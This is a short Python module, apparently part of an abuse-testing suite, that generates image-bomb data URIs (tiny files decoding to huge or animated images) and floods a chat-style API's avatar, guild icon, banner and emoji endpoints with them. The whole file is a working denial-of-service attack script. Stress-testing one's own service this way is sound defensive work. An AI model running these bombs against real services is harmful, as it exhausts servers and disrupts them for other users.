"""Set avatars, icons and emojis of a few bytes and very many pixels, animated ones too."""

from base64 import b64encode
from io import BytesIO

import aiohttp
from PIL import Image

from tests.abuse.flooding import flood, send
from tests.abuse.target import Target


def _uri(kind: str, width: int, height: int, *, frames: int = 1) -> str:
    out = BytesIO()
    images = [Image.new("P" if kind == "gif" else "L", (width, height), index) for index in range(frames)]
    images[0].save(out, kind, save_all=frames > 1, append_images=images[1:])
    return f"data:image/{kind};base64," + b64encode(out.getvalue()).decode()


async def attack(target: Target, seconds: float) -> None:
    """Send each bomb where images are taken."""
    bombs = [
        _uri("webp", 8000, 4000),
        _uri("webp", 8192, 8192),
        _uri("png", 8000, 4000),
        _uri("gif", 2000, 2000, frames=30),
        _uri("jpeg", 8000, 8000),
    ]

    async def act(session: aiohttp.ClientSession, number: int) -> None:
        bomb = bombs[number % len(bombs)]
        own = f"{target.api}/guilds/{target.own_guild_id}"
        if number % 3 == 0:
            await send(session, "PATCH", f"{target.api}/users/@me", token=target.token, json={"avatar": bomb})
        elif number % 3 == 1:
            await send(session, "PATCH", own, token=target.token, json={"icon": bomb, "banner": bomb})
        else:
            emoji = {"name": f"bomb{number}", "image": bomb}
            await send(session, "POST", f"{own}/emojis", token=target.token, json=emoji)

    await flood(target, seconds, act)
